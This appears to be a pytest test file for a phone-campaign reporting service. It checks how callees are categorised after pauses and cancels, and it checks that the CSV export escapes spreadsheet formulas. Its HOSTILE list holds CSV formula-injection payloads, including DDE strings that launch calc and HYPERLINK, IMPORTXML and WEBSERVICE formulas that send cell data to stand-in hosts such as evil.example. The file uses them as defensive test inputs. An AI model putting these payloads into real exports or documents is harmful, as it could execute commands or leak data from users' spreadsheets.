"""A campaign's report: every callee in exactly one category by one rule (so the progress message, the
chart and the CSV agree), and a CSV no spreadsheet runs a formula from, phone numbers still numbers."""

from __future__ import annotations

import asyncio
import csv
import io
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.calls.callee_reports import CAMPAIGN_OVER, CalleeStatus, ReportCategory, report_category
from services.calls.campaign_report import FORMULA_STARTS, HEADER, report_csv, spreadsheet_cell
from speechcue.calls.v1 import calls_pb2
from speechcue.events.v1 import calls_events_pb2
from tests.calls.conftest import CallsHarness
from tests.calls.test_campaigns import campaign, numbers, unlimited
from tests.event_reader import read_events

CAMPAIGN_STATUSES = ["draft", "scheduled", "running", "paused", "completed", "cancelled"]


@pytest.mark.parametrize(("status", "attempts", "campaign_status", "category"), [
    ("skipped", 0, "cancelled", ReportCategory.NOT_CALLED),  # the cancel came first
    ("skipped", 0, "running", ReportCategory.NOT_CALLED),  # an opt-out of the same number came first
    ("skipped", 1, "cancelled", ReportCategory.NOT_REACHED),  # called once, its retry cancelled
    ("pending", 1, "cancelled", ReportCategory.NOT_REACHED),  # a retry the cancel overtook
    ("pending", 0, "completed", ReportCategory.NOT_CALLED),
    ("pending", 0, "running", ReportCategory.WAITING),
    ("pending", 2, "paused", ReportCategory.WAITING),
    ("dialing", 1, "cancelled", ReportCategory.IN_PROGRESS),  # a call in flight finishes
    ("answered", 1, "cancelled", ReportCategory.ANSWERED),
    ("answered", 3, "completed", ReportCategory.ANSWERED),
    ("failed", 2, "completed", ReportCategory.NOT_REACHED),
    ("failed", 0, "completed", ReportCategory.NOT_REACHED),  # the lines stayed busy: never reached
])
def test_each_callee_has_one_report_category(status: str, attempts: int, campaign_status: str,
                                             category: ReportCategory) -> None:
    assert report_category(status, attempts, campaign_status) is category


@given(status=st.sampled_from(list(CalleeStatus)), attempts=st.integers(0, 10),
       campaign_status=st.sampled_from(CAMPAIGN_STATUSES))
def test_an_over_campaign_waits_for_no_one_and_a_called_callee_is_never_not_called(
        status: CalleeStatus, attempts: int, campaign_status: str) -> None:
    category = report_category(status, attempts, campaign_status)
    if campaign_status in CAMPAIGN_OVER:
        assert category is not ReportCategory.WAITING
    if attempts > 0:
        assert category is not ReportCategory.NOT_CALLED


HOSTILE = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0",
    "-2+3", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\t", "\r", "=", "+", "-", "@",
    "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "=IMPORTXML(CONCAT(\"http://e.example/?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://e.example\")", "-1e3", "+1-2", "=\"\"", "@", "=1\n=2", "-\n1", "+33 6 12 34 56 78",
]
NUMBERS = ["+33612345678", "+14155550123", "-1.50", "42", "0.00", "+1", "-7"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_is_shown_as_text(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert cell == "'" + value


@pytest.mark.parametrize("value", NUMBERS)
def test_a_phone_number_or_an_amount_stays_a_number(value: str) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", ["Ada", "Dr. =Smith", "O'Brien", "1 2 #", "", "'=already"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert spreadsheet_cell(value) == value


@dataclass(frozen=True)
class Callee:
    number: str = "+33612345678"
    name: str = ""
    status: str = "answered"
    attempts: int = 1
    outcome: str = "user_hangup"
    duration_seconds: int = 30
    digits: list[str] = field(default_factory=list)
    cost_cents: int = 15
    # The custom fields its last call was dialled with and their answers (test_answer_columns.py).
    call_custom_fields: Any = None
    call_custom_answers: Any = None


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


def test_the_report_escapes_hostile_names_and_never_shows_raw_outcomes_and_keeps_numbers() -> None:
    callees = [Callee(name=name, outcome=outcome) for name, outcome in zip(HOSTILE, reversed(HOSTILE), strict=True)]

    rows = parsed(report_csv(callees, "completed"))

    assert rows[0] == list(HEADER)
    assert len(rows) == len(HOSTILE) + 1  # a CR or a newline inside a cell did not split a line
    for row, callee in zip(rows[1:], callees, strict=True):
        assert row[0] == "+33612345678"
        # The outcome column holds the one rule's code, never the text a provider sent.
        assert row[1] == "'" + callee.name and row[4] == "answered"
        assert row[7] == "0.15"


@given(name=st.text(max_size=30), outcome=st.text(max_size=12), digits=st.lists(st.text(max_size=3), max_size=4))
def test_no_cell_of_the_report_starts_a_formula_unless_it_is_a_plain_number(
        name: str, outcome: str, digits: list[str]) -> None:
    callee = Callee(name=name, outcome=outcome, digits=digits)

    [_, row] = parsed(report_csv([callee], "completed"))

    for cell in (row[1], row[4], row[6]):
        assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").replace(".", "", 1).isdigit()
    assert row[1] in (name, "'" + name)  # the text itself is all there, behind at most one quote


def test_the_report_says_not_called_for_a_callee_the_cancel_left() -> None:
    callees = [Callee(status="answered"), Callee(status="skipped", attempts=0, outcome="cancelled"),
               Callee(status="skipped", attempts=1, outcome="cancelled"), Callee(status="dialing")]

    rows = parsed(report_csv(callees, "cancelled"))

    assert [row[2] for row in rows[1:]] == ["answered", "not called", "not reached", "in progress"]


async def totals_when(calls: CallsHarness, customer: str, campaign_id: str, ready: Callable[[Any], bool],
                      timeout: float = 60.0) -> Any:
    deadline = asyncio.get_running_loop().time() + timeout
    while True:
        current = await calls.stub.GetCampaign(calls_pb2.GetCampaignRequest(customer_id=customer,
                                                                            campaign_id=campaign_id))
        if ready(current.totals):
            return current.totals
        if asyncio.get_running_loop().time() > deadline:
            raise AssertionError(f"the campaign's totals never got there: {current.totals}")
        await asyncio.sleep(0.05)


async def test_a_cancelled_campaigns_event_totals_and_csv_count_alike(calls: CallsHarness) -> None:
    calls.retell.concurrency_limit = 3  # one call in flight after the reserve
    customer = await calls.customer_with_money(50_000)
    await unlimited(calls, customer)
    callees = numbers(6, "+1212")
    await calls.script_callee(callees[0], outcome="no_answer", ring_ms=100)  # its retry is an hour away
    for number in callees[1:]:
        await calls.script_callee(number, duration_ms=2_000, ring_ms=100)
    created = await campaign(calls, customer, callees, retry=calls_pb2.RetryPolicy(max_attempts=2,
                                                                                    spacing_minutes=60))
    action = calls_pb2.CampaignActionRequest(idempotency_key="start", customer_id=customer, campaign_id=created.id)
    await calls.stub.StartCampaign(action)
    await totals_when(calls, customer, created.id, lambda totals: totals.answered >= 2)
    action.idempotency_key = "pause"
    await calls.stub.PauseCampaign(action)
    await totals_when(calls, customer, created.id, lambda totals: totals.in_flight == 0)
    action.idempotency_key = "cancel"
    await calls.stub.CancelCampaign(action)

    await calls.running.context.relay.publish_pending()
    [told] = await read_events(calls.wallet.nats_url, "CALLS", "calls.campaign.cancelled")
    event = calls_events_pb2.CampaignChanged()
    assert told.payload.Unpack(event)
    report = await calls.stub.GetCampaignReport(calls_pb2.GetCampaignRequest(customer_id=customer,
                                                                            campaign_id=created.id))
    statuses = Counter(row["status"] for row in csv.DictReader(io.StringIO(report.csv.decode())))
    dialled = {simulated.record["to_number"] for simulated in calls.retell.calls.values()}

    never_dialled = len(set(callees) - dialled)
    assert never_dialled >= 1
    assert event.not_called == report.totals.not_called == statuses["not called"] == never_dialled
    assert event.failed == report.totals.failed == statuses["not reached"] == 1  # called once, its retry cancelled
    assert event.answered == report.totals.answered == statuses["answered"] == len(callees) - 1 - never_dialled
    assert event.done == event.callees == sum(statuses.values()) == len(callees)


async def test_a_call_in_flight_at_the_cancel_ends_in_the_progress_message_as_in_the_report(
        calls: CallsHarness) -> None:
    calls.retell.concurrency_limit = 3  # one call in flight after the reserve
    customer = await calls.customer_with_money(50_000)
    await unlimited(calls, customer)
    callees = numbers(4, "+1212")
    for number in callees:  # 200 s at the simulator's time scale: 2 s here, still going at the cancel
        await calls.script_callee(number, duration_ms=200_000, ring_ms=100)
    created = await campaign(calls, customer, callees)
    action = calls_pb2.CampaignActionRequest(idempotency_key="start", customer_id=customer, campaign_id=created.id)
    await calls.stub.StartCampaign(action)
    await totals_when(calls, customer, created.id, lambda _: bool(calls.retell.calls))  # the first call is out
    action.idempotency_key = "cancel"
    await calls.stub.CancelCampaign(action)
    ended = await totals_when(calls, customer, created.id, lambda totals: totals.in_flight == 0)

    await calls.running.context.relay.publish_pending()
    progress = await read_events(calls.wallet.nats_url, "CALLS", "calls.campaign.progress")
    last = calls_events_pb2.CampaignChanged()
    assert progress and progress[-1].payload.Unpack(last)
    assert last.status == "cancelled" and last.in_flight == 0
    assert (last.answered, last.failed, last.not_called) == (ended.answered, ended.failed, ended.not_called)
    assert last.answered == 1 and last.not_called == len(callees) - 1 and last.done == len(callees)
